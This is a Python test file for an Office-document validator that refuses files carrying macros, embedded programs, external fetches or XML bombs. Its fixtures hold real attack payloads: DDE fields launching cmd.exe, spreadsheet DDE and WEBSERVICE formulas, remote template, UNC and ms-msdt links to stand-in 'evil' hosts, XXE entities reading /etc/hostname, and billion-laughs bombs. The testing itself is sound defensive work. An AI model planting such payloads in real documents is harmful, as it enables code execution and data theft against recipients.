"""Office packages as evidence: what runs, fetches or hides something is refused however it is written."""

import io
import resource
import subprocess
import sys
import zipfile
from random import Random

import pytest
from docx import Document
from docx.shared import Cm
from openpyxl import Workbook
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment

from lib.files.documents import DocumentError, recognise
from tests.packages import MAINS, OF_MICROSOFT, OFFICE, RELATIONS, listing, package, relations, zipped
from tests.reporting.test_evidence import PNG

MACROS = "文件带有宏或控件"
EMBEDDED = "文件里嵌入了别的文件或对象"
OUTSIDE = "文件一打开就会去取别处的内容"
ODD = "文件里有认不出的部分"
BROKEN = "文件不完整"
WORD, EXCEL, SLIDES = (MAINS[kind][1] for kind in ("docx", "xlsx", "pptx"))
PICTURE = f"{RELATIONS}image"
SETTINGS = {"word/settings.xml": f"{OFFICE}wordprocessingml.settings+xml"}
SHEET = {"xl/worksheets/sheet1.xml": f"{OFFICE}spreadsheetml.worksheet+xml"}
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def linked(kind: str, target: str, *mode: str, of: str = RELATIONS) -> bytes:
    """A package whose main part is related to something."""
    folder, name = MAINS[kind][0].split("/")
    return package(
        kind, {f"{folder}/_rels/{name}.rels": relations((f"{of}{target.split()[0]}", target.split()[1], *mode))}
    )


def field(words: str) -> str:
    """A field of Word, its words cut into runs."""
    cut = len(words) // 2
    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in (words[:cut], words[cut:]))
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return f'<w:document xmlns:w="w"><w:p>{begin}{runs}{end}</w:p></w:document>'


def sheet(formula: str) -> bytes:
    """A workbook with one formula."""
    text = f'<worksheet xmlns="{MAIN}"><sheetData><row><c><f>{formula}</f></c></row></sheetData></worksheet>'
    return package("xlsx", {"xl/worksheets/sheet1.xml": text}, types=SHEET)


def named(attributes: str, words: str = "Sheet1!$A$1") -> bytes:
    names = f'<definedNames><definedName name="x" {attributes}>{words}</definedName></definedNames>'
    return package("xlsx", main=f'<workbook xmlns="{MAIN}">{names}</workbook>')


MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
REFERENCES = "".join(f"&#{ord(letter)};" for letter in MACRO_TYPE)
VBA = "application/vnd.ms-office.vbaProject"
BIN = {"defaults": {"bin": f"{OFFICE}spreadsheetml.printerSettings"}}
PROGRAM = b"MZ\x90\x00" + bytes(60)
HOSTILE = {
    "macros": (package("docx", main_type=MACRO_TYPE), MACROS),
    "macros said in UTF-16": (
        package("docx", whole_listing=listing({"word/document.xml": MACRO_TYPE}).encode("utf-16")),
        MACROS,
    ),
    "macros said by references": (
        package("docx", whole_listing=listing({"word/document.xml": REFERENCES})),
        MACROS,
    ),
    "macros said in another alphabet": (
        package("docx", whole_listing=b'<?xml version="1.0" encoding="cp037"?>' + listing({}).encode("cp037")),
        ODD,
    ),
    "a listing with entities": (
        package(
            "docx", whole_listing=f'<!DOCTYPE a [<!ENTITY m "{MACRO_TYPE}">]>' + listing({"word/document.xml": "&m;"})
        ),
        ODD,
    ),
    "a VBA project by another name": (package("docx", {"word/a.bin": b"x"}, types={"word/a.bin": VBA}), MACROS),
    "a VBA project related by its kind": (linked("docx", "vbaProject printer.bin", of=OF_MICROSOFT), MACROS),
    "a macro sheet of Excel 4": (
        package("xlsx", {"xl/m.xml": "<a/>"}, types={"xl/m.xml": "application/vnd.ms-excel.macrosheet+xml"}),
        MACROS,
    ),
    "a macro sheet related": (linked("xlsx", "xlMacrosheet m.xml", of=OF_MICROSOFT), MACROS),
    "a name that is a macro": (named('xlm="1"'), MACROS),
    "a name that is a procedure": (named('vbProcedure="true"'), MACROS),
    "a name that calls": (named("", "EXEC(&quot;calc&quot;)"), OUTSIDE),
    "a control": (linked("xlsx", "control activeX1.xml"), MACROS),
    "a ribbon": (linked("docx", "ui/extensibility customUI.xml", of=OF_MICROSOFT), MACROS),
    "a web extension": (
        package("docx", {"word/w.xml": "<a/>"}, types={"word/w.xml": "application/vnd.ms-office.webextension+xml"}),
        MACROS,
    ),
    "DDE in a document": (package("docx", main=field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" ')), OUTSIDE),
    "DDE in a simple field": (
        package("docx", main='<w:document xmlns:w="w"><w:fldSimple w:instr=" dde excel a b "/></w:document>'),
        OUTSIDE,
    ),
    "DDE in a document in UTF-16": (package("docx", main=field(" DDE a b ").encode("utf-16")), OUTSIDE),
    "a field without an end": (package("docx", main=field(" DDE a b ").replace("end", "x")), OUTSIDE),
    "text from elsewhere": (package("docx", main=field(" INCLUDETEXT http://x/a.docx ")), OUTSIDE),
    "a picture from elsewhere by a field": (package("docx", main=field(' INCLUDEPICTURE "http://x/a.png" ')), OUTSIDE),
    "DDE in a cell": (sheet("cmd|'/C calc'!A0"), OUTSIDE),
    "DDE in a cell by a reference": (sheet("cmd&#124;'/C calc'!A0"), OUTSIDE),
    "a cell that asks the web": (sheet("_xlfn.WEBSERVICE(&quot;http://x&quot;)"), OUTSIDE),
    "a cell that calls": (sheet("CALL(&quot;urlmon&quot;,&quot;x&quot;)"), OUTSIDE),
    "a link to another workbook": (linked("xlsx", "externalLink externalLinks/externalLink1.xml"), OUTSIDE),
    "data from elsewhere": (linked("xlsx", "connections connections.xml"), OUTSIDE),
    "a template from elsewhere": (linked("docx", "attachedTemplate http://x/a.dotm", "External"), OUTSIDE),
    "a picture from elsewhere": (linked("docx", "image http://x/a.png", "External"), OUTSIDE),
    "a frame": (linked("docx", "frame http://x/a.html", "External"), OUTSIDE),
    "an inner part that is an address": (linked("docx", "image http://x/a.png"), OUTSIDE),
    "a link that starts a tool": (linked("docx", "hyperlink ms-msdt:/id", "External"), OUTSIDE),
    "an object": (linked("docx", "oleObject embeddings/oleObject1.bin"), EMBEDDED),
    "an object by its type": (
        package("docx", {"word/o.bin": b"x"}, types={"word/o.bin": f"{OFFICE}oleObject"}),
        EMBEDDED,
    ),
    "a page within": (linked("docx", "aFChunk a.html"), EMBEDDED),
    "a program as a setting of the printer": (package("xlsx", {"xl/p.bin": PROGRAM}, **BIN), EMBEDDED),
    "a program as a picture": (package("docx", {"word/a.png": PROGRAM}, defaults={"png": "image/png"}), EMBEDDED),
    "a program by its type": (
        package("docx", {"word/a.exe": PROGRAM}, defaults={"exe": "application/x-msdownload"}),
        EMBEDDED,
    ),
    "an archive as a font": (
        package("docx", {"word/f.odttf": zipped({"a": b"a"})}, defaults={"odttf": f"{OFFICE}obfuscatedFont"}),
        EMBEDDED,
    ),
    "macros in a workbook within": (
        package(
            "docx",
            {"word/embeddings/b.xlsx": package("xlsx", {"xl/a.bin": b"x"}, types={"xl/a.bin": VBA})},
            defaults={"xlsx": f"{OFFICE}spreadsheetml.sheet"},
        ),
        MACROS,
    ),
    "a program called a workbook within": (
        package("docx", {"word/embeddings/b.xlsx": PROGRAM}, defaults={"xlsx": f"{OFFICE}spreadsheetml.sheet"}),
        EMBEDDED,
    ),
    "a click that starts a program": (
        package("pptx", main='<p:presentation xmlns:p="p"><a action="ppaction:&#47;/program"/></p:presentation>'),
        MACROS,
    ),
    "a part that nobody knows": (package("docx", {"word/a.xml": "<a/>"}, types={"word/a.xml": "text/x"}), ODD),
    "a part without a type": (package("docx", {"word/a.dat": "x"}), ODD),
    "a relationship that nobody knows": (linked("docx", "image a.png", of="http://x/"), ODD),
    "a part said twice": (
        package("docx", whole_listing=listing({"word/document.xml": WORD, "WORD/document.xml": MACRO_TYPE})),
        ODD,
    ),
    "a part there twice": (package("docx", {"WORD/document.xml": "<a/>"}), ODD),
    "entities in a part": (
        package("docx", main='<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]><a>&x;</a>'),
        ODD,
    ),
    "entities in a part in UTF-16": (
        package("docx", main='<!DOCTYPE a [<!ENTITY x "x">]><a>&x;</a>'.encode("utf-16")),
        ODD,
    ),
    "a listing that is no XML": (package("docx", whole_listing="<Types>"), BROKEN),
    "no relationships": (zipped({"[Content_Types].xml": listing({"word/document.xml": WORD})}), BROKEN),
    "a macro document as the main part": (
        package("pptx", main_type="application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"),
        MACROS,
    ),
}


def document(inner: str) -> bytes:
    """A document with this in its body."""
    return package("docx", main=f'<w:document xmlns:w="w" xmlns:v="v" xmlns:o="o">{inner}</w:document>')


def run(tag: str, words: str) -> str:
    return f"<w:r><w:{tag}>{words}</w:{tag}></w:r>"


BEGIN, END = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
NAMED_BY_NUMBERS = f"{BEGIN}{BEGIN}{run('instrText', 'QUOTE 68 68 69 32 97')}{END}{END}"
HOSTILE |= {
    "a picture from a share, said to lie within": (linked("docx", "image \\\\evil\\x.png"), OUTSIDE),
    "a picture from a host, said to lie within": (linked("docx", "image //evil/x.png"), OUTSIDE),
    "a link that starts a program": (linked("docx", "hyperlink \\\\evil\\x.exe", "External"), OUTSIDE),
    "a link that opens macros": (linked("xlsx", "hyperlink file:///C:/x.docm", "External"), OUTSIDE),
    "a field that starts a program": (document(field('HYPERLINK "file://evil/x.hta"')), OUTSIDE),
    "a field in deleted text": (document(BEGIN + run("delInstrText", "DDEAUTO x") + END), OUTSIDE),
    "a field that another one names": (document(NAMED_BY_NUMBERS), OUTSIDE),
    "a drawing's picture by address": (document('<v:imagedata src="http://evil.example/x"/>'), OUTSIDE),
    "a drawing's picture by a linked address": (document('<v:fill o:href="\\\\evil\\x"/>'), OUTSIDE),
    "a table published at each save": (
        package("xlsx", main=f'<workbook xmlns="{MAIN}"><x destinationFile="\\\\evil\\x"/></workbook>'),
        OUTSIDE,
    ),
    "a formula of another workbook": (sheet("'[http://evil.example/x.xlsx]S'!A1"), OUTSIDE),
    "a formula of a numbered workbook": (sheet("1+[1]S!A1"), OUTSIDE),
    "a formula with its mark in capitals": (sheet("_XLFN.WEBSERVICE(A1)"), OUTSIDE),
    "a formula with another mark": (sheet("_xlfn._xlws.PY(1)"), OUTSIDE),
    "a formula whose link starts a program": (sheet('HYPERLINK("\\\\evil\\x.exe")'), OUTSIDE),
}
HARMLESS = {
    "a column of a table": sheet("SUM(表1[[#This Row],[金额]])-Sheet2!A1+'甲 表'!B2"),
    "a name of the workbook itself": sheet("[0]!总额"),
    "words in brackets": sheet('IF(A1&gt;0,"[1]年!","x")'),
    "a link to a page": sheet('HYPERLINK("https://www.hangzhou.gov.cn/a.exe","网页")'),
    "a link to a file": linked("docx", "hyperlink file:///C:/资料/表.docx", "External"),
    "a picture within, copied from a mail": document('<v:imagedata o:href="cid:image001.png"/>'),
    "a field in a field": document(
        f"{BEGIN}{run('instrText', 'IF ')}{BEGIN}{run('instrText', 'PAGE')}{END}{run('instrText', '= 1')}{END}"
    ),
}


@pytest.mark.parametrize("content", HARMLESS.values(), ids=HARMLESS)
def test_what_only_looks_alike_is_taken(content):
    assert recognise(content).suffixes[0] in {".docx", ".xlsx"}


@pytest.mark.parametrize(("content", "words"), HOSTILE.values(), ids=HOSTILE)
def test_what_runs_or_fetches_is_refused_and_the_words_say_what_to_do(content, words):
    with pytest.raises(DocumentError) as refusal:
        recognise(content)
    assert str(refusal.value).startswith(words)
    assert "PDF" in str(refusal.value) or words == BROKEN


def a_document() -> bytes:
    document, out = Document(), io.BytesIO()
    document.add_heading("监测报告")
    document.add_picture(io.BytesIO(PNG), width=Cm(1))
    document.add_table(2, 2)
    document.save(out)
    return out.getvalue()


def a_workbook() -> bytes:
    book, out = Workbook(), io.BytesIO()
    page = book.active
    page.append(["县|乡", '=IF(A1="a|b",1,2)'])
    page["A1"].comment = Comment("监测", "县")
    page["C1"].hyperlink = "https://example.com/?a=1|2"
    chart = BarChart()
    chart.add_data(Reference(page, min_col=1, min_row=1, max_row=2))
    page.add_chart(chart, "E5")
    book.save(out)
    return out.getvalue()


def by_office() -> dict[str, tuple[bytes, str]]:
    chart = package("xlsx", types=SHEET, parts={"xl/worksheets/sheet1.xml": "<a/>"})
    embedded = {"word/embeddings/b.xlsx": chart}
    fields = field(' HYPERLINK "http://x" ') + ""
    strict = relations(("http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument", "/word/document.xml"))
    return {
        "a document": (a_document(), ".docx"),
        "a workbook": (a_workbook(), ".xlsx"),
        "slides": (package("pptx"), ".pptx"),
        "a chart's workbook": (package("docx", embedded, defaults={"xlsx": f"{OFFICE}spreadsheetml.sheet"}), ".docx"),
        "fields": (package("docx", main=fields), ".docx"),
        "the strict form": (package("docx", {"_rels/.rels": strict}), ".docx"),
        "UTF-16": (package("docx", main="<a>县</a>".encode("utf-16")), ".docx"),
        "a link": (linked("docx", "hyperlink https://x/", "External"), ".docx"),
        "a relationship's file": (linked("docx", "image media/a.png"), ".docx"),
    }


@pytest.mark.parametrize("kind", by_office())
def test_what_offices_write_is_taken(kind):
    content, suffix = by_office()[kind]
    assert recognise(content).suffixes == (suffix,)


def test_elements_are_counted_over_all_parts(monkeypatch):
    """A document of 2 MB with twenty parts of two million elements each held a thread for more than a minute."""
    monkeypatch.setattr("lib.files.office.MAX_ELEMENTS", 1000)
    header = f"{OFFICE}wordprocessingml.header+xml"
    parts = {f"word/header{number}.xml": f"<a><instrText/>{'<b/>' * 400}</a>" for number in range(3)}
    for count, is_taken in ((2, True), (3, False)):
        names = list(parts)[:count]
        content = package("docx", {name: parts[name] for name in names}, types=dict.fromkeys(names, header))
        if is_taken:
            assert recognise(content).title == "Word 文档"
        else:
            with pytest.raises(DocumentError, match="文件内容过多，查不完"):
                recognise(content)


# Bombs, under a limit of memory -----------------------------------------------------------------------------

TRIED = """
import resource, sys, time
from pathlib import Path
from lib.files.documents import DocumentError, recognise
from lib.tabular.reading import SpreadsheetError, read_spreadsheet
resource.setrlimit(resource.RLIMIT_AS, (700 * 2**20,) * 2)
def read_tables(content):
    book = read_spreadsheet(content)
    return [book.sheet(name) for name in book.sheet_names]
for path in sys.argv[1:]:
    content = Path(path).read_bytes()
    for door in (recognise, read_tables):
        begun = time.process_time()
        try:
            door(content)
            told = "taken"
        except (DocumentError, SpreadsheetError) as error:
            told = str(error)
        print(Path(path).name, time.process_time() - begun < 15, told, sep="|")
"""
LAUGHS = "<!DOCTYPE a [<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))
BOMBS = {
    "a billion laughs": LAUGHS + "]><a>&a11;</a>",
    "one long entity many times": f"<!DOCTYPE a [<!ENTITY b '{'x' * 100_000}'>]><a>{'&b;' * 100_000}</a>",
    "a file of the host": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]><a>&b;</a>',
    "entities by parameters": '<!DOCTYPE a [<!ENTITY % b SYSTEM "file:///etc/hostname"> %b;]><a/>',
    "a tag without end": "<a" + " " * 30_000_000,
    "elements without end": "<a>" + "<b/>" * 5_000_000 + "</a>",
    "nested without end": "<a>" * 2_000_000,
    "one attribute": f'<a b="{"x" * 30_000_000}"/>',
    "many attributes": "<a " + " ".join(f'b{n}="1"' for n in range(200_000)) + "/>",
}
PLACES = {
    "[Content_Types].xml": ("docx", {}),
    "_rels/.rels": ("docx", {}),
    "word/document.xml": ("docx", {}),
    "xl/workbook.xml": ("xlsx", {}),
    "xl/worksheets/sheet1.xml": ("xlsx", SHEET),
}


def test_no_bomb_takes_the_memory_or_the_time_of_a_process(tmp_path):
    """Entities and sheer size in each part, at both doors for files (evidence, tables) in a process of 700 MB."""
    paths = []
    for at, (place, (kind, types)) in enumerate(PLACES.items()):
        for number, bomb in enumerate(BOMBS.values()):
            path = tmp_path / f"{at}-{number}.zip"
            path.write_bytes(with_bomb(kind, types, place, bomb))
            paths.append(str(path))
    done = subprocess.run([sys.executable, "-c", TRIED, *paths], capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr[-2000:]
    told = [line.split("|", 2) for line in done.stdout.splitlines()]
    assert [line for line in told if line[1] == "False"] == []
    assert len(told) == 2 * len(paths)
    entities = [line for line in told if line[0].split("-")[1] in {"0.zip", "1.zip", "2.zip", "3.zip"}]
    assert [line for line in entities if line[2] == "taken"] == []
    assert resource.getrlimit(resource.RLIMIT_AS)[0] == resource.RLIM_INFINITY  # the limit was the child's


def with_bomb(kind: str, types: dict, place: str, bomb: str) -> bytes:
    """Padded, so that it is not refused for its ratio alone."""
    padding = {"word/a.png": Random(1).randbytes(1_000_000)}
    whole = package(kind, types=types, defaults={"png": "image/png"}) if kind == "docx" else a_workbook()
    return zipped({**unpacked(whole), place: bomb, **padding})


def unpacked(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}
